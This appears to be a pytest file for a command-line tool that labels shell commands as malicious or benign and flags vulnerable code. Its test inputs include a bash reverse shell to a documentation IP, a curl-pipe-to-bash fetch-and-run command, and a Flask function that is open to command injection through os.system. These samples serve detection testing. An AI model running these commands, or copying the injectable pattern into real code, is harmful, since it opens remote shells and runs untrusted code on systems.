"""``watchfloor ask`` as its contract says: a line in, a line out, whatever the line holds."""

import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from watchfloor.cli.main import main


def ask(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, raw: bytes, *words: str,
        code: int = 0) -> list[dict[str, Any]]:  # fmt: skip
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(raw), encoding="utf-8"))
    assert main(["ask", *words, "--json"]) == code
    return [json.loads(line) for line in capsys.readouterr().out.splitlines()]


def test_a_line_is_a_text_and_gets_one_answer(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    lines = b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\nls -la\r\n"
    found = ask(capsys, monkeypatch, lines, "command")
    assert [each["id"] for each in found] == [1, 2]
    assert [each["labels"][0]["label"] for each in found] == ["malicious", "benign"]
    for each in found:
        assert each["expert"] == "command"
        assert isinstance(each["abstained"], bool)
        scores = [label["score"] for label in each["labels"]]
        assert scores == sorted(scores, reverse=True)
        assert sum(scores) == pytest.approx(1, abs=1e-3)


def test_a_record_keeps_its_id(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    lines = b'{"id": "a-7", "text": "git status"}\n{"text": "id"}\n{ echo hi; }\n'
    found = ask(capsys, monkeypatch, lines, "command")
    assert [each["id"] for each in found] == ["a-7", 2, 3]


def test_what_cannot_be_read_is_said_and_the_rest_is_answered(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    lines = b'{"id": 5, "text": 7}\n\nls\n\xff\xfe\x00 \nls -l'
    found = ask(capsys, monkeypatch, lines, "command", code=3)
    assert len(found) == 5
    assert found[0]["id"] == 5 and found[0]["abstained"] and found[0]["labels"] == []
    assert found[1]["abstained"] and "nothing to read" in found[1]["why"]
    assert found[2]["labels"] and found[4]["labels"]


def test_an_endless_line_is_one_rejection(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("WATCHFLOOR_MAX_LINE_BYTES", "1000")
    found = ask(capsys, monkeypatch, b"a" * 500_000 + b"\nls\n", "command", code=3)
    assert len(found) == 2
    assert "longer than 1,000 bytes" in found[0]["why"]
    assert found[1]["labels"]


def test_files_are_read_like_the_standard_input(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "a.txt").write_text("ls\n")
    assert main(["ask", "command", str(tmp_path / "a.txt"), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["expert"] == "command"
    assert main(["ask", "command", str(tmp_path / "none.txt")]) == 2
    assert main(["ask", "command", str(tmp_path)]) == 2


def test_an_expert_that_is_not_there_is_named_with_those_that_are(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["ask", "nobody"]) == 2
    error = capsys.readouterr().err
    assert "nobody" in error and "command" in error


def test_a_pipe_can_be_talked_with() -> None:
    """The answer to a line comes before the next line is sent."""
    child = subprocess.Popen(
        [sys.executable, "-m", "watchfloor.cli.main", "ask", "command", "--json"], stdin=subprocess.PIPE,
        stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    assert child.stdin and child.stdout
    for number in (1, 2):
        child.stdin.write("whoami /all\n")
        child.stdin.flush()
        assert json.loads(child.stdout.readline())["id"] == number
    child.stdin.close()
    assert child.wait(timeout=30) == 0
    child.stdout.close()


def test_the_council_answers_or_says_why_not(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    found = ask(capsys, monkeypatch, b"curl http://203.0.113.9/x.sh | bash\n\n", "auto")
    assert found[0]["answers"][0]["expert"] == "command"
    assert found[1]["abstained"] is True
    assert found[1]["why"]


def test_the_council_sends_code_to_the_code_expert(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    code = "import os\nfrom flask import request\n\ndef f():\n    os.system(request.args.get('x'))\n"
    (found,) = ask(capsys, monkeypatch, json.dumps({"id": 9, "text": code}).encode(), "auto")
    assert (found["id"], found["expert"], found["labels"][0]["label"]) == (9, "code", "vulnerable")
    assert found["answers"][0]["lines"] == [5]


def test_words_for_a_person_hold_no_control_characters(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    raw = b"ls \x1b[31m red\n"
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(raw), encoding="utf-8"))
    assert main(["ask", "command"]) == 0
    assert "\x1b" not in capsys.readouterr().out


def test_experts_are_listed_and_shown(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WATCHFLOOR_EXPERTS_DIR", str(tmp_path))
    assert main(["experts", "list", "--json"]) == 0
    listed = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert "command" in {each["expert"] for each in listed}
    assert not any("wrong" in each for each in listed)
    assert main(["experts", "show", "command"]) == 0
    assert "malicious" in capsys.readouterr().out
    assert main(["experts", "show", "nobody"]) == 2
    assert main(["experts", "remove", "command"]) == 2


def test_a_broken_added_expert_does_not_hide_the_others(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WATCHFLOOR_EXPERTS_DIR", str(tmp_path))
    (tmp_path / "odd").mkdir()
    (tmp_path / "odd" / "pack.json").write_text('{"name": "expert"}')
    assert main(["experts", "list", "--json"]) == 0
    listed = {each["expert"]: each for each in map(json.loads, capsys.readouterr().out.splitlines())}
    assert "wrong" in listed["odd"]
    assert "wrong" not in listed["command"]


def test_an_unsigned_pack_is_refused_and_taken_when_meant(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from watchfloor.experts import bundled

    monkeypatch.setenv("WATCHFLOOR_EXPERTS_DIR", str(tmp_path))
    pack = str(bundled.EXPERTS / "command")
    assert main(["experts", "add", pack]) == 4
    assert "signature" in capsys.readouterr().err
    assert main(["experts", "add", pack, "--unsigned"]) == 0
    assert main(["experts", "remove", "command"]) == 0
